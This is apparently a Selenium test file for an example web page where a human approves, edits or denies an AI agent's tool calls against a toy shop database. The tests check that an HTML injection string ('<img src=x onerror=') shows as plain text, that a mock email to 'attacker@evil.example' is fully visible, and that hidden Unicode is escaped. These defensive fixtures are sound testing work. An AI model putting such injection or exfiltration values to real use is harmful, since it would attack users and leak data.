# pyright: reportUnknownMemberType=false, reportUnknownArgumentType=false
"""The page of the example in a real browser, at the width of a desktop and of a phone."""

import json
import re
import shutil
from collections.abc import Callable, Generator
from pathlib import Path
from typing import Any, TypeVar

import pytest
from selenium.common.exceptions import StaleElementReferenceException
from selenium.webdriver import ActionChains, Chrome, ChromeOptions, Keys
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.by import By
from selenium.webdriver.remote.webelement import WebElement
from selenium.webdriver.support.ui import WebDriverWait

from examples.approvals.offline import JOBS
from examples.approvals.shop import Shop
from tests.examples.browsers import done
from tests.examples.served import Served, ServedHere, started
from toolscript import PendingCall

CHROMIUM, DRIVER = shutil.which('chromium'), shutil.which('chromedriver')
pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(
        not (CHROMIUM and DRIVER), reason='There is no Chromium here. `make chromium` installs it where there is apt.'
    ),
]

REFUND, DELETE, TELL, CREDIT = (job.asked for job in JOBS)
DESK, PHONE = (1280, 900), (390, 844)
_QUIETLY = ('no-first-run', 'disable-background-networking', 'disable-component-update', 'disable-sync')
_FLAGS = ('headless', 'no-sandbox', 'disable-gpu', 'disable-quic', 'disable-dev-shm-usage', *_QUIETLY)
FoundT = TypeVar('FoundT')


class Page:
    """A user's view of the page."""

    def __init__(self, browser: Chrome, served: Served) -> None:
        self.browser = browser
        self.served = served

    def open(self, size: tuple[int, int] = DESK, chat: str = '') -> None:
        self.browser.set_window_size(*size)
        self.browser.get('about:blank')
        self.browser.get(f'{self.served.address}/{chat}')
        self.until(lambda: self.text_of('#status') or self.button(REFUND).is_enabled())

    def until(self, true: Callable[[], FoundT]) -> FoundT:
        # The page may replace the element while it is being read.
        wait = WebDriverWait(self.browser, 60, 0.2, ignored_exceptions=[StaleElementReferenceException])
        return wait.until(lambda _: true())

    def all(self, selector: str) -> list[WebElement]:
        return self.browser.find_elements(By.CSS_SELECTOR, selector)

    def text_of(self, selector: str) -> str:
        return '\n'.join(element.text for element in self.all(selector))

    def button(self, text: str) -> WebElement:
        return self.browser.find_element(By.XPATH, f'//button[.="{text}"]')

    def press(self, text: str) -> None:
        self.button(text).click()

    def asks(self) -> list[WebElement]:
        """Return the questions of the decision form, by their texts: concurrent calls have no order."""
        return sorted(self.until(lambda: self.all('.approval fieldset:enabled')), key=lambda question: question.text)

    def choose(self, question: WebElement, choice: str) -> None:
        question.find_element(By.CSS_SELECTOR, f'input[value={choice}]').click()

    def write(self, question: WebElement, name: str, text: str) -> None:
        label = next(one for one in question.find_elements(By.TAG_NAME, 'label') if one.text == name)
        field = self.browser.find_element(By.ID, str(label.get_attribute('for')))
        field.clear()
        field.send_keys(text)

    def ends(self) -> str:
        """Wait until the user can write again, and return the last answer."""
        self.until(lambda: self.button('Send').is_enabled())
        return self.until(lambda: str(self.all('.message')[-1].get_property('textContent'))).strip()

    def run(self, script: str) -> Any:
        return self.browser.execute_async_script(script)

    def overflows(self) -> bool:
        """Return whether anything is wider than the window."""
        return bool(self.browser.execute_script('return document.documentElement.scrollWidth > window.innerWidth'))

    def nameless(self) -> list[str]:
        """Return the controls without an accessible name."""
        controls = [one for one in self.all('button, input, textarea, summary') if one.is_displayed()]
        return [one.get_attribute('outerHTML') or '' for one in controls if not one.accessible_name]


@pytest.fixture(scope='module')
def browser(tmp_path_factory: pytest.TempPathFactory) -> Generator[Chrome]:
    assert CHROMIUM is not None
    assert DRIVER is not None
    options = ChromeOptions()
    options.binary_location = CHROMIUM
    for flag in [*_FLAGS, f'user-data-dir={tmp_path_factory.mktemp("chromium")}']:
        options.add_argument(f'--{flag}')
    options.set_capability('goog:loggingPrefs', {'browser': 'ALL'})
    browser = Chrome(options=options, service=Service(DRIVER))
    browser.set_script_timeout(120)
    yield browser
    browser.quit()


@pytest.fixture
def page(browser: Chrome, tmp_path: Path) -> Generator[Page]:
    with started(ServedHere(tmp_path)) as served:
        yield Page(browser, served)
        browser.get('about:blank')
        # Messages about this page must not reach the next test.
        browser.get_log('browser')


def test_a_script_shows_its_calls_asks_in_the_middle_and_continues(page: Page) -> None:
    page.open()
    page.press(REFUND)
    lamp, desk = page.asks()
    assert page.text_of('.approval h3') == '2 calls need your approval'
    assert lamp.text.splitlines()[:3] == ['refund:', '  order_id = 12', '  amount = 48.0']
    rows = page.text_of('.calls')
    assert rows.count('✓') == 9
    assert rows.count('?') == 2
    assert 'refund(order_id=12, amount=48)' in rows
    assert page.text_of('.stdout') == '4 orders came late.'
    assert page.nameless() == []

    page.choose(lamp, 'change')
    page.write(lamp, 'amount', 'thirty')
    page.choose(desk, 'deny')
    page.write(desk, 'Why not? The script reads the reason.', 'It was used.')
    page.press('Continue')
    assert page.text_of('.hint').startswith('amount has to be JSON')
    page.write(lamp, 'amount', '30')
    page.press('Continue')
    assert 'Grace: 30.00 euros for the Lamp\nEdsger: refund was not approved: It was used.' in page.ends()
    assert done(page.served.folder)['refunds'] == [(11, 12.0), (12, 30.0), (15, 19.0)]
    marks = page.all('.mark[data-mark=changed], .mark[data-mark=denied]')
    assert sorted(one.text for one in marks) == ['changed', 'denied']

    # A customer's text is only text, wherever it appears.
    page.all('.calls li')[2].find_element(By.TAG_NAME, 'summary').click()
    assert '<img src=x onerror=' in page.text_of('.calls')
    assert (page.all('main img'), page.browser.title) == ([], 'The clerk')
    assert page.browser.get_log('browser') == []


@pytest.mark.parametrize('size', [DESK, pytest.param(PHONE, marks=pytest.mark.long)])
def test_the_changes_of_a_chat_are_listed_and_undone(page: Page, size: tuple[int, int]) -> None:
    page.open(size)
    page.press(REFUND)
    for question in page.asks():
        page.choose(question, 'deny')
    page.press('Continue')
    page.ends()
    page.press('Undo changes')
    page.until(lambda: page.button('Take back 2'))
    assert len(done(page.served.folder)['refunds']) == 2
    page.press('Take back 2')
    page.until(lambda: page.text_of('.undo').count('was undone') == 2)
    assert done(page.served.folder)['refunds'] == []
    assert page.browser.get_log('browser') == []


def test_a_phone_shows_everything_and_notices_that_the_server_is_back(page: Page) -> None:
    page.open(PHONE)
    page.press(REFUND)
    page.asks()
    assert not page.overflows()
    page.press('Approve all')
    page.served.stop()
    page.press('Continue')
    page.until(lambda: page.text_of('#status') == 'The server is away. Trying again.')
    page.served.start()
    # The answer was lost with the server, so the page asks again.
    page.asks()
    assert not page.overflows()
    page.press('Approve all')
    page.press('Continue')
    assert 'Edsger: 62.00 euros' in page.ends()
    assert not page.overflows()
    assert [order for order, _ in done(page.served.folder)['refunds']] == [11, 12, 14, 15]


def test_an_answer_from_two_windows_counts_once_and_the_second_shows_the_result(page: Page) -> None:
    page.open()
    page.press(REFUND)
    page.asks()
    first, chat = page.browser.current_window_handle, page.browser.current_url.rpartition('/')[2]
    page.browser.switch_to.new_window('tab')
    page.open(chat=chat)
    page.asks()
    page.press('Stop the script')
    page.ends()
    page.browser.close()
    page.browser.switch_to.window(first)
    page.press('Approve all')
    page.press('Continue')
    page.ends()
    assert page.text_of('.error').startswith('This was answered already')
    assert page.text_of('.script .state') == 'stopped'
    assert done(page.served.folder)['refunds'] == [(11, 12.0), (15, 19.0)]


def test_a_script_can_be_read_and_changed_with_the_keyboard_before_it_starts(page: Page) -> None:
    page.open(PHONE)
    page.until(lambda: page.browser.switch_to.active_element.get_attribute('id') == 'text')
    _type(page, DELETE, Keys.ENTER)
    page.asks()
    assert page.text_of('.approval h3') == 'May this script run?'
    assert "        await delete_customer(one['id'])" in page.text_of('.code')
    assert page.browser.switch_to.active_element.text == 'May this script run?'
    _type(page, Keys.TAB, Keys.SPACE, Keys.ARROW_DOWN, Keys.TAB)
    _type(page, Keys.CONTROL, 'a')
    _type(page, "await delete_customer(5)\n['Alan']", Keys.TAB, Keys.ENTER)
    assert page.ends() == 'Deleted: Alan.'
    assert done(page.served.folder)['customers'] == [1, 2, 3, 4]
    assert page.text_of('.script > h2 .mark') == 'changed by you'
    assert not page.overflows()


@pytest.mark.parametrize('size', [pytest.param(DESK, marks=pytest.mark.long), PHONE])
def test_a_plan_is_one_table_and_more_calls_can_be_approved(page: Page, size: tuple[int, int]) -> None:
    page.open(size)
    page.press(CREDIT)
    page.until(lambda: page.all('.plan'))
    assert page.text_of('.approval h3') == 'The script will make 7 changes'
    rows = [re.sub(r'\d{6,}[.\d]*', 'N', ' '.join(row.text.split())) for row in page.all('.plan tbody tr')]
    assert rows[:2] == [
        '1 credit line 3 customer_id = 1 amount = 6 Approve row 1',
        '2 credit line 4 customer_id = 1 amount = N only if row 1 succeeds; amount may differ Approve row 2',
    ]
    assert (page.overflows(), page.nameless(), page.all('.grant')) == (False, [], [])
    assert credits(page) == []
    page.press('Continue')

    # Real amounts differ from those of the preview.
    page.until(lambda: page.all('.grant'))
    assert credits(page) == [(1, 6.0)]
    assert not page.overflows()
    (grant, *_) = page.all('.grant')
    grant.find_element(By.TAG_NAME, 'summary').click()
    page.write(grant, 'How many more?', '9')
    kinds = {label.text: label for label in grant.find_elements(By.CSS_SELECTOR, '.limit label')}
    choose(page, kinds['customer_id'], 'any')
    choose(page, kinds['amount'], 'most')
    page.press('Continue')
    assert page.text_of('.hint') == 'The most for amount has to be a number.'
    grant.find_elements(By.CSS_SELECTOR, '.limit input')[1].send_keys('9')
    assert (page.overflows(), page.nameless()) == (False, [])
    page.press('Continue')
    assert page.ends().startswith('Done.\ncustomer 1 has 6.60 euros')
    assert [customer for customer, _ in credits(page)] == [1, 1, 2, 2, 3, 3, 1, 1]
    assert page.browser.get_log('browser') == []


def test_a_deselected_row_is_skipped_and_a_plan_can_be_rejected(page: Page) -> None:
    page.open()
    page.press(CREDIT)
    page.until(lambda: page.all('.plan'))
    page.press('Approve none')
    page.press('Continue')
    assert page.ends().startswith('I leave it at that.')
    assert credits(page) == []
    page.press(CREDIT)
    page.until(lambda: page.all('.approval button:enabled'))
    page.press('Stop the script')
    assert page.ends().startswith('I leave it at that. The tool call was denied.')
    assert credits(page) == []


def credits(page: Page) -> list[tuple[int, float]]:
    rows = Shop(page.served.folder / 'shop.db').rows('select customer_id, amount from credits order by id')
    return [(row['customer_id'], row['amount']) for row in rows]


def choose(page: Page, label: WebElement, value: str) -> None:
    field = page.browser.find_element(By.ID, str(label.get_attribute('for')))
    field.find_element(By.CSS_SELECTOR, f'option[value={value}]').click()


def test_every_argument_is_completely_visible(page: Page) -> None:
    page.open()
    call = _sent('send_mail', {'body': 'Dear all, ' * 800, 'to': 'attacker@evil.example'})
    names = _sent('note', {f'name_{number}': number for number in range(100)})
    shown = page.run(f"""
        const tell = arguments[arguments.length - 1];
        import('/page/approval.js').then(({{ Approval }}) => {{
            const calls = {json.dumps([call, names])};
            const form = new Approval(calls, false, () => {{}});
            document.querySelector('main').append(form.element);
            const [text, all, many] = form.element.querySelectorAll('pre');
            tell([text.textContent, all.textContent, many.scrollHeight - many.clientHeight]);
        }});
    """)
    assert '  to = "attacker@evil.example"' in shown[0]
    assert shown[1] == f'body = {json.dumps("Dear all, " * 800)}to = "attacker@evil.example"'
    assert shown[2] == 0


def _sent(tool_name: str, args: dict[str, object]) -> dict[str, object]:
    call = PendingCall(tool_call_id='a__1', tool_name=tool_name, args=args, kind='approval')
    return {'tool_call_id': call.tool_call_id, 'tool_name': tool_name, 'args': args, 'text': call.render()}


def test_an_early_call_is_marked_and_every_character_is_visible(page: Page) -> None:
    page.open()
    shown = page.run("""
        const tell = arguments[arguments.length - 1];
        import('/page/script.js').then(({ Script }) => {
            const script = new Script('a', 1);
            script.begins({ call_id: 'a__1', tool_name: 'read', arguments: { text: '<b>1\\u202e</b>' }, line: 1 });
            script.ends({ call_id: 'a__1', status: 'finished', result: 1, seconds: 0.25, speculative: true });
            tell(script.list.textContent);
        });
    """)
    assert shown == '✓read(text="<b>1\\u{202e}</b>")donespeculative250 ms1'


def _type(page: Page, *keys: str) -> None:
    actions = ActionChains(page.browser)
    if keys[0] == Keys.CONTROL:
        actions.key_down(Keys.CONTROL).send_keys(keys[1]).key_up(Keys.CONTROL).perform()
        return
    actions.send_keys(*keys).perform()
